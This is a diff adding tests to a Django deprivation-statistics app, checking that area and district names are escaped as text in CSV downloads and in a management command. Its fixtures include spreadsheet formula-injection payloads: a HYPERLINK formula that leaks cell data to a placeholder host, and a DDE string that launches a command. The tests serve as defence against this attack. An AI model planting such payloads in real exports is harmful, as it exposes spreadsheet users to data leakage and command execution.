@@ -124,3 +124,64 @@ def test_an_analyst_creates_a_priority_area_and_sees_its_profile(client, analyst
     assert abs(sum(profile["Regeneration Wards"].shares) - 1) < 1e-9
     rows = rows_of(client.get(f"/places/priority-areas/{area.pk}/?format=csv"))
     assert {r[0] for r in rows[1:]} == {"Regeneration Wards", "Rest of Solihull"}
+
+
+# ---------------------------------------------------------------------------------------------------
+# Names are text in every CSV download, never a live spreadsheet formula
+
+FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'
+
+
+def test_a_priority_area_named_as_a_formula_downloads_as_text(client, analyst):
+    from equalchance.places.models import Area
+    from equalchance.places.services import priority_area_create
+
+    area = priority_area_create(
+        name=FORMULA,
+        district=Area.objects.get(code=SOLIHULL),
+        by=analyst,
+        method="wards",
+        codes=["E05001287"],
+        description="",
+    )
+    rows = rows_of(client.get(f"/places/priority-areas/{area.pk}/?format=csv"))
+    assert {r[0] for r in rows[1:]} == {"'" + FORMULA, "Rest of Solihull"}
+
+
+def test_lsoa_and_ward_names_beginning_like_formulas_download_as_text(client, viewer):
+    from equalchance.places.models import Area
+
+    lsoa = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv"))[1]
+    Area.objects.filter(code=lsoa[0]).update(name="+cmd|' /C calc'!A0")
+    Area.objects.filter(code="E05001287").update(name="@SUM(1,2)")
+    areas = rows_of(client.get(f"/places/districts/{SOLIHULL}/areas/?format=csv"))
+    assert ["'+cmd|' /C calc'!A0"] == [r[1] for r in areas if r[0] == lsoa[0]]
+    assert "'@SUM(1,2)" in {r[8] for r in areas}
+    change = rows_of(client.get(f"/places/districts/{SOLIHULL}/change/?compare=2015-2019&format=csv"))
+    assert "'@SUM(1,2)" in {r[2] for r in change}
+    assert not any(cell.startswith(("=", "+", "@")) for row in areas + change for cell in row)
+
+
+def test_district_names_beginning_like_formulas_are_text_in_downloads_and_the_command(client, viewer):
+    from django.core.management import call_command
+
+    from equalchance.places import selectors
+    from equalchance.places.models import Area
+
+    Area.objects.filter(code=SOLIHULL).update(name="-1+1")
+    selectors._summaries.clear()  # district names are read with the cached summaries
+    try:
+        rows = rows_of(client.get(f"/places/districts/{SOLIHULL}/?format=csv"))
+        assert {r[1] for r in rows[1:]} == {"'-1+1"}
+        everyone = rows_of(client.get("/places/districts/?format=csv"))
+        assert "'-1+1" in {r[1] for r in everyone}
+        out = io.StringIO()
+        call_command(
+            "deprivation", "summaries", release=2019, level="district", district=SOLIHULL, stdout=out
+        )
+        command = list(csv.reader(io.StringIO(out.getvalue())))
+        assert {r[1] for r in command[1:]} == {"'-1+1"}
+        # numbers are written as before
+        assert [r[4] for r in command if r[2:4] == ["imd", "average_score"]] == ["17.370"]
+    finally:
+        selectors._summaries.clear()
